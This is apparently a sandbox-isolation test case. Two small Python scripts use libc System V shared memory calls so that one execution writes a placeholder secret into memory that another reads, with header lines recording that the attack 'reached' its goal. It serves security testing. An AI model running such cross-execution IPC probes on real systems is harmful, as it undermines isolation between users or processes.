# weakness: host ipc
# goal: change the shared memory that another execution works with
# judged: other
# reached: "$SECRET"
# refused: null
import ctypes

import _mce_host
from attack import LIBC, checked

CREATE, REMOVE = 0o1000, 0
segment = checked(LIBC.shmget(0x6D63_6503, ctypes.c_size_t(4096), CREATE | 0o600))
at = checked(LIBC.shmat(segment, None, 0))
_mce_host.call("test", "ready", {})
_mce_host.call("test", "wait", {})
result = ctypes.string_at(at, 32).rstrip(b"\0").decode() or None
LIBC.shmctl(segment, REMOVE, None)
# --- beside ---
import ctypes

from attack import LIBC, checked

segment = checked(LIBC.shmget(0x6D63_6503, ctypes.c_size_t(4096), 0o600))
ctypes.memmove(checked(LIBC.shmat(segment, None, 0)), b"$SECRET", 32)
